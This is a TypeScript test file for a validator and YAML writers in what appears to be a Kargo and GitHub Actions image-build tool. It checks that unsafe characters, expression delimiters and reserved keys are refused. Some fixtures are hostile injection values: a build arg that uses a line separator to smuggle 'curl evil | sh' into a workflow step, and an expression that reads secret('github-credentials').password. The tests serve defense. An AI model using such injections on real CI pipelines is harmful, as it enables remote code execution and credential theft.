import * as jsYaml from "js-yaml";
import { parse } from "yaml";
import { describe, expect, it } from "vitest";
import { parseImagesText } from "../../src/config/images";
import { parseOverlayText } from "../../src/config/overlay";
import { parseStackSettings } from "../../src/config/stack";
import { characterProblem, keyProblem, textProblem } from "../../src/config/text-policy";
import { toYaml } from "../../src/github/yaml";
import { yamlDocument } from "../../src/render/yaml";
import { problemsOf } from "../helpers/problems";

const FILE = "images.yaml";

/** A valid image whose `field: value` line (YAML-escaped) replaces the default one or is added under `section`. */
function imageWith(lines: Record<string, string> = {}): string {
  const fields: Record<string, string> = {
    name: "app",
    repository: "acme/app",
    "source.repo": "acme/app",
    "source.dockerfile": "docker/Dockerfile",
    ...lines,
  };
  const top = Object.entries(fields).filter(([k]) => !k.includes("."));
  const source = Object.entries(fields).filter(([k]) => k.startsWith("source."));
  return `- ${top.map(([k, v], i) => `${i ? "  " : ""}${k}: ${v}`).join("\n")}\n  source:\n${source.map(([k, v]) => `    ${k.slice(7)}: ${v}`).join("\n")}\n`;
}

const q = (s: string) => JSON.stringify(s);

describe("the character policy", () => {
  it.each([
    ["a line feed", "a\nb", "U+000A, a line break"],
    ["a tab", "a\tb", "U+0009, a tab"],
    ["NEL", "a\u0085b", "U+0085, NEXT LINE"],
    ["LINE SEPARATOR", "a\u2028b", "U+2028, LINE SEPARATOR"],
    ["PARAGRAPH SEPARATOR", "a\u2029b", "U+2029, PARAGRAPH SEPARATOR"],
    ["DEL", "a\u007fb", "U+007F, DEL"],
    ["a C1 control", "a\u009bb", "U+009B, a control character"],
    ["a BOM inside a value", "a\ufeffb", "U+FEFF, a byte order mark"],
    ["a lone high surrogate", "a\ud800b", "U+D800, a lone surrogate"],
    ["a lone low surrogate", "a\udc00", "U+DC00, a lone surrogate"],
    ["a noncharacter", "a\uffff", "U+FFFF"],
  ])("refuses %s and names the character, not the text", (_what, text, named) => {
    const problem = characterProblem(text);
    expect(problem).toContain(named);
    expect(problem).toContain("(character 2)");
  });

  it("accepts ordinary Unicode text, a valid surrogate pair included", () => {
    for (const text of ["café", "naïve/Dockerfile", "😀", "日本語", "a b"]) expect(characterProblem(text)).toBeUndefined();
  });

  it.each(["${{", "}}", "${%", "%}"])("refuses the Kargo delimiter %s anywhere in a value", (d) => {
    expect(textProblem(`image.${d} secret('github-credentials').password x`)).toContain(`must not contain ${q(d)}`);
  });

  it.each(["__proto__", "constructor", "prototype"])("refuses %s as a key", (key) => {
    expect(keyProblem(key)).toContain("reserved");
  });
});

describe("images.yaml: every value passes the policy at validation (file, line, image, field)", () => {
  it.each([
    ["updates[0].key", "  updates:\n    - repo: acme/deploy\n      path: values.yaml\n      type: yaml-update\n      key: \"image.${{ secret('github-credentials').password }}\"\n", 10, "updates[0].key", "${{"],
    ["updates[0].path", "  updates:\n    - repo: acme/deploy\n      path: \"a/${% x %}/kustomization.yaml\"\n      type: kustomize-set-image\n", 8, "updates[0].path", "${%"],
    ["updates[0].branch", "  updates:\n    - repo: acme/deploy\n      path: k\n      type: kustomize-set-image\n      branch: \"main%}\"\n", 10, "updates[0].branch", "%}"],
  ])("a Kargo expression in %s", (_what, extra, line, field, delimiter) => {
    const problems = problemsOf(() => parseImagesText(imageWith() + extra, FILE));
    expect(problems).toContain(`images.yaml:${line}: image "app": ${field}: must not contain ${q(delimiter)}: Kargo and GitHub Actions would evaluate it as an expression`);
    // The grammar's own complaint about the same field is not repeated.
    expect(problems.filter((p) => p.includes(`${field}:`))).toHaveLength(1);
  });

  it("a line separator in a build arg, a Dockerfile path and a branch", () => {
    const text = `${imageWith({ "source.dockerfile": q("Dockerfile\u2028x"), "source.branch": q("main\u0085") })}  buildArgs:\n    BASE: "node\\u2029  - run: curl evil | sh"\n`;
    const problems = problemsOf(() => parseImagesText(text, FILE));
    expect(problems).toEqual(
      expect.arrayContaining([
        'images.yaml:5: image "app": source.dockerfile: must not contain U+2028, LINE SEPARATOR (a line break in YAML 1.1) (character 11)',
        'images.yaml:6: image "app": source.branch: must not contain U+0085, NEXT LINE (a line break in YAML 1.1) (character 5)',
        'images.yaml:8: image "app": buildArgs.BASE: must not contain U+2029, PARAGRAPH SEPARATOR (a line break in YAML 1.1) (character 5)',
      ]),
    );
  });

  it("DEL and C1 controls in a name do not reach the message: the image is named by its position", () => {
    const problems = problemsOf(() => parseImagesText(imageWith({ name: q("app\u007f\u009b") }), FILE));
    expect(problems[0]).toMatch(/^images\.yaml:1: image #1: name: must not contain U\+007F, DEL/);
    expect(problems.join("\n")).not.toMatch(/[\u007f-\u009f]/);
  });

  it("reserved keys are refused instead of vanishing (__proto__ as a build arg)", () => {
    const problems = problemsOf(() => parseImagesText(`${imageWith()}  buildArgs:\n    __proto__: x\n    constructor: y\n`, FILE));
    expect(problems).toContain('images.yaml:7: image "app": buildArgs.__proto__: "__proto__" is a reserved name and cannot be a key');
    expect(problems).toContain('images.yaml:8: image "app": buildArgs.constructor: "constructor" is a reserved name and cannot be a key');
  });

  it("a UTF-8 byte order mark at the start of the file is accepted", () => {
    const { images } = parseImagesText(`\ufeff${imageWith()}`, FILE);
    expect(images.map((i) => i.name)).toEqual(["app"]);
  });

  it("a yaml-update key follows Kargo's key syntax (pkg/sjson/split_key.go SplitKey)", () => {
    const withKey = (key: string) => `${imageWith()}  updates:\n    - repo: acme/deploy\n      path: values.yaml\n      type: yaml-update\n      key: ${q(key)}\n`;
    expect(parseImagesText(withKey("image.tag"), FILE).images[0].updates[0].key).toBe("image.tag");
    expect(parseImagesText(withKey("a\\.b.:0.c"), FILE).images[0].updates[0].key).toBe("a\\.b.:0.c");
    expect(problemsOf(() => parseImagesText(withKey("image..tag"), FILE))[0]).toContain("updates[0].key: has an empty part");
    expect(problemsOf(() => parseImagesText(withKey("image.t:ag"), FILE))[0]).toContain("has a ':' inside a part");
    expect(problemsOf(() => parseImagesText(withKey("image\\x"), FILE))[0]).toContain("has an invalid escape");
    expect(problemsOf(() => parseImagesText(withKey(" image"), FILE))[0]).toContain("must not start or end with a blank");
  });
});

describe("base constraints are checked as Kargo reads them", () => {
  const base = (policy: string, constraint: string) => `- base: node:22\n  tagPolicy: ${policy}\n  constraint: ${q(constraint)}\n`;

  it.each([">=1.2.3 <2", "~3.12", "^1.x", "1.2 - 1.4.5", ">= 1.0, < 2.0 || >= 3", "*", "v1.2.3-rc.1+build.5", "=1", "!=4.x", "~>2"])("accepts the Masterminds constraint %s", (c) => {
    expect(parseImagesText(base("semver", c), FILE).bases[0].constraint).toBe(c);
  });

  it.each([
    ["an empty OR branch", ">=1.0 ||"],
    ["an npm-only form", ">=1.0.0 <2.0.0-0 ||| 3"],
    ["a word", "latest"],
    ["an npm x-range with a letter", "1.2.y"],
    ["a leading-zero prerelease", ">=1.0.0-01"],
    ["a number beyond uint64", "18446744073709551616.0.0"],
  ])("refuses %s (%s)", (_what, c) => {
    const problems = problemsOf(() => parseImagesText(base("semver", c), FILE));
    expect(problems[0]).toMatch(/^images\.yaml:3: base "node:22": constraint: must be a semver constraint as Kargo reads it/);
  });

  it.each(["^\\d+\\.\\d+$", "^(?i)alpine-[0-9]+$", "^(?P<major>\\d+)\\.x$", "^v\\d{1,3}\\z", "^[[:alpha:]]+-\\pL+$", "(?s:.)*", "a{2}{0}?".slice(0, 4)])("accepts the RE2 expression %s", (re) => {
    expect(parseImagesText(base("lexical", re), FILE).bases[0].constraint).toBe(re);
  });

  it.each([
    ["a lookahead", "^(?=.*alpine)\\d+$", "invalid or unsupported Perl syntax"],
    ["a negative lookbehind", "(?<!rc)\\d+$", "invalid named capture"],
    ["a backreference", "^(\\d)\\1$", "invalid escape sequence"],
    ["a possessive quantifier", "^\\d++$", "invalid nested repetition operator"],
    ["an atomic group", "^(?>a|ab)c$", "invalid or unsupported Perl syntax"],
    ["a repeat count over 1000", "^a{1001}$", "invalid repeat count"],
    ["nested repeats over 1000", "^(a{100}){11}$", "invalid repeat count"],
    ["a JavaScript-only escape", "^\\u0041$", "invalid escape sequence"],
    ["an unknown POSIX class", "[[:alphas:]]", "invalid character class range"],
    ["an unclosed group", "^(ab", "missing closing )"],
  ])("refuses %s", (_what, re, goError) => {
    const problems = problemsOf(() => parseImagesText(base("lexical", re), FILE));
    expect(problems[0]).toContain("constraint: must be a regular expression Kargo can compile (Go's RE2 syntax");
    expect(problems[0]).toContain(goError);
  });
});

describe("stack config and overlays pass the same policy", () => {
  const opts = { source: "Pulumi.dev.yaml", projectDir: "/project" };

  it("a control character in a plain key and a delimiter inside an object key are config errors naming the key", () => {
    const problems = problemsOf(() =>
      parseStackSettings({ kargoProject: "image\u2028factory", delivery: JSON.stringify({ mode: "gitops", repo: "acme/state", branch: "main${{ x }}" }) }, opts),
    );
    expect(problems).toContain("Pulumi.dev.yaml: image-factory:kargoProject: must not contain U+2028, LINE SEPARATOR (a line break in YAML 1.1) (character 6)");
    expect(problems).toContain('Pulumi.dev.yaml: image-factory:delivery.branch: must not contain "${{": Kargo and GitHub Actions would evaluate it as an expression');
  });

  it("delivery.path must name a folder that is not under .github", () => {
    for (const p of [".github", ".github/workflows", "./.GitHub/x", "."]) {
      const problems = problemsOf(() => parseStackSettings({ delivery: JSON.stringify({ mode: "gitops", repo: "acme/state", path: p }) }, opts));
      expect(problems[0]).toMatch(/^Pulumi\.dev\.yaml: image-factory:delivery\.path: must (not be under \.github|name a folder)/);
    }
    expect(parseStackSettings({ delivery: JSON.stringify({ mode: "gitops", repo: "acme/state", path: "deploy/kargo" }) }, opts).delivery.path).toBe("deploy/kargo");
  });

  it("github.apiUrl takes an https API root only", () => {
    const s = parseStackSettings({ github: JSON.stringify({ apiUrl: "https://github.example.com/api/v3/" }) }, opts);
    expect(s.github.apiUrl).toBe("https://github.example.com/api/v3");
    for (const bad of ["http://github.example.com/api/v3", "https://user:pw@github.example.com/api/v3", "https://github.example.com/api/v3?x=1", "ftp://x", "github.example.com"]) {
      expect(problemsOf(() => parseStackSettings({ github: JSON.stringify({ apiUrl: bad }) }, opts))[0]).toContain("image-factory:github.apiUrl: must be an https:// URL");
    }
  });

  it("an overlay value with a line separator or a reserved key is refused with its line", () => {
    const problems = problemsOf(() => parseOverlayText("defaults:\n  rebuildDelay: \"7d\\u2028\"\noverrides:\n  __proto__: {rebuildDelay: 1d}\n", "stacks/dev.yaml"));
    expect(problems).toContain("stacks/dev.yaml:2: defaults.rebuildDelay: must not contain U+2028, LINE SEPARATOR (a line break in YAML 1.1) (character 3)");
    expect(problems).toContain('stacks/dev.yaml:4: overrides.__proto__: "__proto__" is a reserved name and cannot be a key');
  });
});

describe("the YAML writers quote what YAML 1.1 would read as another type or structure", () => {
  const tricky = ["=", "<<", "y", "Y", "n", "NO", "on", "Off", "yes", "~", "null", "0o17", "017", "08", "1:20", "1:20.5", "2001-12-14", "2001-12-14t21:59:43.10-05:00", "1_000", ".inf", "0b101", "+12", "1e3", "0x1F", "._", "-", "? x", "- x", "x: y", "#x", "&a", "*a", "!t", "%x", "@x", "`x", "|", ">", "'", '"', "[a]", "{a}", "a #b", "---", "..."];
  const hostile = ["a\u2028- run: evil", "a\u2029b", "a\u0085b", "a\u007fb", "a\u009bb", "a\ufeffb", "a\u0000b", "a\u001bb", "tab\there", "line\nbreak", "\ufffe"];

  function parsesBack(text: string, value: unknown): void {
    expect(parse(text, { version: "1.2" })).toEqual(value);
    expect(parse(text, { version: "1.1", merge: true })).toEqual(value);
    expect(jsYaml.load(text)).toEqual(value);
  }

  it.each([...tricky, ...hostile])("%j as a value and as a key reads back as the same string under YAML 1.2, 1.1 and js-yaml", (s) => {
    const value = { a: s, list: [s], [s]: "k", nested: { [s]: s } };
    // A workflow keeps its bare `on:` key (GitHub's own); every other writer quotes it.
    const writers = s === "on" ? [toYaml(value, { quoteKeys: true }), yamlDocument(value)] : [toYaml(value, { quoteKeys: true }), toYaml(value), yamlDocument(value)];
    for (const text of writers) {
      parsesBack(text, value);
      // Nothing a YAML 1.1 reader breaks lines on, or cannot parse, is written raw.
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\ufeff\ufffe\uffff]/);
    }
  });

  it("keeps a GitHub workflow's bare on: key", () => {
    expect(toYaml({ on: { push: {} } })).toBe("on:\n  push: {}\n");
  });

  it("never puts a line break into a comment", () => {
    const text = toYaml({ a: 1 }, { header: ["x\u2028y: evil", "z\nw", "u\u0085v"] });
    expect(text.split("\n").slice(0, 3).every((l) => l.startsWith("#"))).toBe(true);
    expect(text).not.toMatch(/[\u2028\u0085]/);
    expect(parse(text, { version: "1.1" })).toEqual({ a: 1 });
  });
});
